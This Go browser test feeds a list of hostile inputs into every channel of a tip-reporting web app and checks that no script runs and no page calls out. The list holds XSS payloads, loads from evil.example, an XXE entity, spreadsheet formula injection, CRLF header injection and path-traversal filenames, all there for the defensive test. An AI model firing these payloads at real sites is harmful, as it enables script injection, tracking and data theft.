package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"mime"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// attacks are what people send to make a reader's browser act, or the reader misread. What
// runs sets `pwned`, opens a dialog, or asks evil.example for something.
var attacks = []string{
	`<script>pwned=1</script>`, `<script src=//evil.example/a.js></script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=pwned=1>`, `" onmouseover="pwned=1" x="`,
	`' autofocus onfocus='pwned=1`, `<svg/onload=pwned=1>`, `<svg><script href=data:,pwned=1 /></svg>`, `<svg><a xlink:href="javascript:pwned=1"><text y=20>x</text></a></svg>`, `<math><a href="javascript:pwned=1">x</a></math>`,
	`</textarea><script>pwned=1</script>`, `</title><script>pwned=1</script>`, `--><script>pwned=1</script><!--`, `]]><script>pwned=1</script>`, `</p></div></main></body><script>pwned=1</script>`,
	`<iframe src="javascript:parent.pwned=1"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<object data="data:text/html,<script>pwned=1</script>"></object>`, `<embed src="//evil.example/e.swf">`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/s.css">`, `<link rel=prefetch href="https://evil.example/p">`,
	`<style>@import "https://evil.example/i.css";*{background:url(https://evil.example/b)}</style>`, `<div style="background:url(https://evil.example/c);position:fixed;inset:0">x</div>`,
	`<img src="https://evil.example/track.gif">`, `<img srcset="https://evil.example/set 2x">`, `<video poster="https://evil.example/v"><source onerror="pwned=1"></video>`, `<audio src="https://evil.example/au" autoplay></audio>`, `<a href="https://evil.example/" ping="https://evil.example/ping">click</a>`,
	`<form action="https://evil.example/"><button formaction="javascript:pwned=1">send</button></form>`, `<input autofocus onfocus=pwned=1>`, `<details open ontoggle=pwned=1>x</details>`, `<body onload=pwned=1>`, `<template><script>pwned=1</script></template>`,
	`javascript:pwned=1`, `data:text/html,<script>pwned=1</script>`, `https://evil.example/login`, `//evil.example`, `www.evil.example`, `mailto:a@evil.example?body=x`, `[click](https://evil.example/)`, `tel:+8613900000000`,
	`{{.T "x"}}{{template "content" .}}{{printf "%s" .Member}}`, `${pwned=1}`, `#{pwned=1}`, `<%= pwned=1 %>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/x">]>&e;`, `<?xml-stylesheet href="https://evil.example/x.xsl"?>`,
	"text\u202etxet\u202c \u2066iso\u2069", "zero\u200bwidth\u200d\ufeff\u00ad", "р\u0430ypal.com \u0430ррӏе.com", "null\x00 bell\x07 esc\x1b[31m", strings.Repeat("长", 400) + strings.Repeat("W", 4000), "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309",
	`=HYPERLINK("https://evil.example/","x")`, `@SUM(1)|cmd|' /C calc'!A0`, "\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned=1</script>", `+ADw-script+AD4-pwned=1+ADw-/script+AD4-`, "\ufdfd\U0001f469\u200d\U0001f469\u200d\U0001f467 \U000e0041\U000e0042", `<plaintext>`, `<xmp><noscript><select><table>`,
}

// watch notes every dialog that a page opens, and everything its policy stopped: what is
// shown as text asks for nothing that could be stopped.
func (b *tab) watch() {
	b.t.Helper()
	err := chromedp.Listen(b, func(ev any) {
		switch e := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			b.t.Errorf("a dialog opened at %s: %s", e.URL, e.Message)
			go func() { _, _ = chromedp.Call(b, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{}) }()
		case *cdplog.EventEntryAdded:
			if e.Entry.Source == "security" || strings.Contains(e.Entry.Text, "Content Security Policy") {
				b.t.Errorf("the policy had to stop something at %s: %s", e.Entry.URL, e.Entry.Text)
			}
		}
	})
	if err != nil {
		b.t.Fatal(err)
	}
	call(b, cdplog.Enable, cdp.Empty{})
}

// harmless opens a page and wants nothing in it to have run or to lead away, and wants its
// own parts to stand: a title, the footer after everything else, no more than our scripts.
func (b *tab) harmless(address, want string) {
	b.t.Helper()
	b.do(chromedp.Navigate(address), chromedp.WaitReady(chromedp.CSS(`footer`)))
	found, err := chromedp.Run(b, chromedp.Evaluate[[]string](`(() => {
		const out = [];
		if (typeof pwned !== "undefined") out.push("a script ran");
		if (location.href.split("#")[0] !== `+quoted(address)+`) out.push("the page went to " + location.href);
		for (const e of document.querySelectorAll("a[href],area,form,[formaction],[src],link[href],[ping],[background],[data]")) {
			for (const name of ["href", "action", "formaction", "src", "ping", "background", "data", "srcset", "poster"]) {
				if (e.hasAttribute(name) && new URL(e.getAttribute(name), location.href).origin !== location.origin) out.push(e.outerHTML.slice(0, 200) + " leads away");
			}
		}
		for (const e of document.querySelectorAll("*")) {
			if ([...e.attributes].some((a) => /^on|^style$|^srcdoc$/.test(a.name))) out.push(e.outerHTML.slice(0, 200));
			if (/^(iframe|object|embed|base|style|math|template|video|plaintext|xmp)$/i.test(e.tagName)) out.push("a <" + e.tagName + ">");
		}
		for (const s of document.scripts) if (!/\/(desk|viewer)\.js$/.test(s.src)) out.push("a script that isn't ours: " + s.outerHTML.slice(0, 200));
		if (document.querySelector("footer").compareDocumentPosition(document.querySelector("main")) !== Node.DOCUMENT_POSITION_PRECEDING) out.push("something broke out of main");
		if (document.documentElement.scrollWidth > innerWidth + 1) out.push("something is wider than the screen: " + document.documentElement.scrollWidth);
		const text = document.querySelector("main").textContent;
		if (/[\u202a-\u202e\u2066-\u2069\u200b\u200d\ufeff\u00ad\0\x07\x1b]/.test([...document.querySelectorAll("main *:not(textarea):not(input):not(option)")].flatMap((e) => [...e.childNodes]).filter((n) => n.nodeType === 3 && n.parentElement.tagName !== "TEXTAREA").map((n) => n.data).join(""))) out.push("a hidden character stands unseen");
		if (!text.includes(`+quoted(want)+`)) out.push("the words aren't there as text");
		return out;
	})()`))
	if err != nil {
		b.t.Fatalf("%s: %v", address, err)
	}
	for _, f := range found {
		b.t.Errorf("%s (%.40q): %s", address, want, f)
	}
}

func quoted(s string) string {
	text, _ := json.Marshal(s) // a string always has its JSON
	return string(text)
}

// TestHostileInABrowser sends every attack in by every channel, in every field, and opens
// every page that shows it.
func TestHostileInABrowser(t *testing.T) {
	t.Parallel()
	in := install(t, append([]string{smsEnv}, generousLimits...)...)
	in.start()
	b := newTab(t, wide, true)
	b.watch()
	b.enter(in, "li", handlerPass)
	for i, a := range attacks {
		in.attack(i, a)
	}
	all := strings.Join(attacks, "\n")
	for _, send := range []func(string){in.attackJSON, in.attackMail, in.attackSMS, in.attackKeyed} {
		send(all)
	}
	tips := in.arrived(len(attacks) + 4)
	known := maps.Clone(tips)
	receipt := in.attackForm(all)
	last := in.tipOf(known)
	tips[last] = true
	var read strings.Builder
	for tip := range tips {
		b.harmless("http://"+in.desk+"/tips/"+tip, "")
		read.WriteString(b.text(".words .said") + "\n")
	}
	for i, a := range attacks {
		if a = line(a); i%5 != 2 && !strings.ContainsFunc(a, func(r rune) bool { return r > 127 || r < 32 }) && !strings.Contains(read.String(), a) {
			t.Errorf("%q doesn't stand anywhere as text", a)
		}
	}
	in.attackTurns(last, receipt, all)
	for _, path := range []string{"/tips/" + last, "/tips/" + last + "/identity", "/", "/?lane=held", "/?urgent=1&category=" + url.QueryEscape(attacks[2]) + "&place=" + url.QueryEscape(attacks[3]),
		"/ledger", "/audit", "/reviews", "/tips/new", "/account", "/members", "/nothing/" + url.PathEscape(attacks[2])} {
		for _, width := range []int64{wide, narrow} {
			b.size(width)
			b.harmless("http://"+in.desk+path, "")
		}
	}
	b.size(wide)
	in.opensFiles(b, last)
	w := newTab(t, wide, true)
	w.watch()
	w.enter(in, "wang", custodianPass)
	w.harmless("http://"+in.desk+"/custody", "另一次 "+attacks[2])
	c := newTab(t, wide, true)
	c.watch()
	c.do(chromedp.Navigate("http://"+in.public+"/receipt"), chromedp.SendKeys(chromedp.CSS(`input[name=receipt]`), receipt),
		chromedp.Submit(chromedp.CSS(`input[name=receipt]`)), chromedp.WaitReady(chromedp.CSS(`textarea[name=text]`)))
	if ran, err := chromedp.Run(c, chromedp.Evaluate[string](`typeof pwned + " " + document.querySelectorAll("script:not([src$='/site.js']),iframe,main a[href^='http'],main img[src*=evil],style").length`)); err != nil || ran != "undefined 0" {
		t.Errorf("the reporter's page: %q, %v", ran, err)
	}
	for _, tab := range []*tab{b, w} {
		tab.homely(in.desk)
	}
	c.homely(in.public)
}

// attack sends one attack by one of the channels, in turn.
func (in *instance) attack(i int, a string) {
	in.t.Helper()
	switch i % 5 {
	case 0:
		in.attackForm(a)
	case 1:
		in.attackJSON(a)
	case 2:
		in.attackMail(a)
	case 3:
		in.attackSMS(a)
	default:
		in.attackKeyed(a)
	}
}

// line is an attack for a field of one line.
func line(a string) string {
	a = strings.NewReplacer("\r", " ", "\n", " ").Replace(a)
	return string([]rune(a)[:min(100, len([]rune(a)))])
}

// brief is an attack for a field of a number.
func brief(a string) string { return string([]rune(line(a))[:min(60, len([]rune(line(a))))]) }

// parcel is an attack for a parcel's number: it has a digit, and at the desk it may be nobody's telephone.
func parcel(a string) string { return strings.ReplaceAll(line("TB-1 "+a), "13900000000", "139") }

func (in *instance) attackForm(a string) (receipt string) {
	in.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	for field, v := range map[string]string{"text": a, "address": line(a), "subject": line(a), "occurred": line(a), "parcel": line(a), "name": line(a), "phone": brief(a), "urgent": "1"} {
		_ = w.WriteField(field, v)
	}
	for _, f := range []struct{ name, kind, body string }{{"a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"><script>alert(1)</script></svg>`},
		{line(a) + ".html", "text/html", "<html><script>alert(1)</script>"}, {"../../" + line(a), "image/png", "\x89PNG\r\n\x1a\n<script>alert(1)</script>"},
		{"gif.js", "image/gif", "GIF89a=1;alert(1);//\x00;"}, {"x.txt", "text/plain", strings.NewReplacer("\x00", "", "\x07", "", "\x1b", "").Replace(a)}, {line(a), "text/plain", "plain words"}} {
		h := textproto.MIMEHeader{"Content-Type": {f.kind}, "Content-Disposition": {mime.FormatMediaType("form-data", map[string]string{"name": "files", "filename": f.name})}}
		p, err := w.CreatePart(h)
		if err != nil {
			in.t.Fatal(err)
		}
		_, _ = p.Write([]byte(f.body))
	}
	_ = w.Close()
	resp, err := http.Post("http://"+in.public+"/report", w.FormDataContentType(), &body)
	if err != nil {
		in.t.Fatal(err)
	}
	answer := readAll(in.t, resp)
	m := receiptOutput.FindStringSubmatch(answer)
	if m == nil {
		in.t.Fatalf("%.60q: %d\n%s", a, resp.StatusCode, answer)
	}
	return m[1]
}

func (in *instance) attackJSON(a string) {
	in.t.Helper()
	text, err := json.Marshal(map[string]string{"text": a, "address": line(a), "subject": line(a), "occurred": line(a), "parcel": line(a), "name": line(a), "phone": brief(a)})
	if err != nil {
		in.t.Fatal(err)
	}
	resp, err := http.Post("http://"+in.public+"/api/v1/reports", "application/json", bytes.NewReader(text))
	if err != nil {
		in.t.Fatal(err)
	}
	if answer := readAll(in.t, resp); resp.StatusCode != http.StatusCreated {
		in.t.Fatalf("%.60q: %d %s", a, resp.StatusCode, answer)
	}
}

// attackMail is HTML alone, with the attack in every header that is kept.
func (in *instance) attackMail(a string) {
	in.t.Helper()
	word := mime.BEncoding.Encode("utf-8", line(a))
	in.mail("a@evil.example", strings.Join([]string{"From: " + word + " <a@evil.example>", "Reply-To: " + word + " <b@evil.example>", "Subject: " + word, "X-Mailer: " + word, "MIME-Version: 1.0",
		"Message-ID: <" + fmt.Sprintf("%x", line(a)) + "@evil.example>", "Content-Type: multipart/mixed; boundary=bound", "", "--bound", "Content-Type: text/html; charset=utf-8", "",
		`<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="pwned=1">` + a + `<img src="cid:x"><a href="https://evil.example/">here</a></body></html>`,
		"--bound", "Content-Type: image/svg+xml; name=" + mime.QEncoding.Encode("utf-8", line(a)), "Content-Disposition: attachment; filename*=utf-8''" + url.PathEscape(line(a)), "Content-ID: <x>", "",
		`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, "--bound--", ""}, "\r\n"))
}

// attackSMS comes from a new number each time: texts of one number are one tip.
func (in *instance) attackSMS(a string) {
	in.t.Helper()
	text, err := json.Marshal([]map[string]any{{"phone_number": fmt.Sprintf("139%08d", time.Now().UnixNano()/1000%100_000_000), "content": a, "send_time": time.Now().Format(time.DateTime), "dest_code": line(a), "sequence_id": time.Now().UnixNano()}})
	if err != nil {
		in.t.Fatal(err)
	}
	in.sms(string(text))
}

func (in *instance) attackKeyed(a string) {
	in.t.Helper()
	in.login("li", handlerPass).act("/tips/new", url.Values{"channel": {"visit"}, "text": {a}, "address": {line(a)}, "subject": {line(a)}, "occurred": {line(a)}, "parcel": {parcel(a)}, "relapse_of": {parcel(a)},
		"name": {line(a)}, "phone": {brief(a)}})
}

// attackTurns puts the attack where both sides go on talking, and where members write.
func (in *instance) attackTurns(tip, receipt, all string) {
	in.t.Helper()
	text, err := json.Marshal(map[string]string{"receipt": receipt, "text": all[:4000]})
	if err != nil {
		in.t.Fatal(err)
	}
	resp, err := http.Post("http://"+in.public+"/api/v1/receipt/messages", "application/json", bytes.NewReader(text))
	if err != nil {
		in.t.Fatal(err)
	}
	if answer := readAll(in.t, resp); resp.StatusCode != http.StatusCreated {
		in.t.Fatalf("a message: %d %s", resp.StatusCode, answer)
	}
	li, wang := in.login("li", handlerPass), in.login("wang", custodianPass)
	for _, a := range attacks[:12] {
		if status, _, body := li.post("/tips/"+tip+"/messages", url.Values{"text": {"回复 " + a}}); status == http.StatusUnprocessableEntity {
			m := sureField.FindStringSubmatch(body)
			li.act("/tips/"+tip+"/messages", url.Values{"text": {"回复 " + a}, "sure": {m[1]}})
		}
		li.act("/tips/"+tip+"/notes", url.Values{"text": {a}})
	}
	li.act("/tips/"+tip+"/identity", url.Values{"reason": {all[:1500]}})
	_, list := wang.get("/custody")
	_, id, _ := strings.Cut(list, "/custody/")
	id, _, _ = strings.Cut(id, "/")
	wang.act("/custody/"+id+"/approve", url.Values{"passphrase": {custodianPass}})
	li.act("/tips/"+tip+"/identity", url.Values{"reason": {"另一次 " + attacks[2]}})
	li.act("/views", url.Values{"query": {"urgent=1"}, "name": {attacks[0]}})
	li.act("/tips/"+tip+"/state", url.Values{"state": {"accepted"}, "department": {"housing"}, "summary": {all[:1500]}, "subject": {line(all)}, "location": {line(all)}, "parcel": {parcel(all)}, "note": {all[:1500]}})
}

var sureField = regexp.MustCompile(`name="sure" value="(\w+)"`)

// opensFiles opens every clean copy as a page of its own.
func (in *instance) opensFiles(b *tab, tip string) {
	in.t.Helper()
	b.do(chromedp.Navigate("http://" + in.desk + "/tips/" + tip))
	links, err := chromedp.Run(b, chromedp.Evaluate[[]string](`[...document.querySelectorAll(".files a")].map((a) => a.href)`))
	if err != nil || len(links) == 0 {
		in.t.Fatalf("the files: %v, %v", links, err)
	}
	for _, link := range links {
		b.do(chromedp.Navigate(link))
		if ran, err := chromedp.Run(b, chromedp.Evaluate[string](`typeof pwned + " " + document.contentType`)); err != nil || ran != "undefined text/plain" {
			in.t.Errorf("%s: %q, %v", link, ran, err)
		}
	}
}

// arrived waits for n tips, in the ledger or held.
func (in *instance) arrived(n int) map[string]bool {
	in.t.Helper()
	li, all := in.login("li", handlerPass), map[string]bool{}
	defer func() {
		if in.t.Failed() {
			in.t.Logf("%d of %d came", len(all), n)
		}
	}()
	until(in.t, time.Minute, "the tips", func() bool {
		_, held := li.get("/?lane=held")
		for _, m := range tipLink.FindAllStringSubmatch(held, -1) {
			all[m[1]] = true
		}
		for id := range in.ledger() {
			all[id] = true
		}
		return len(all) >= n
	})
	return all
}
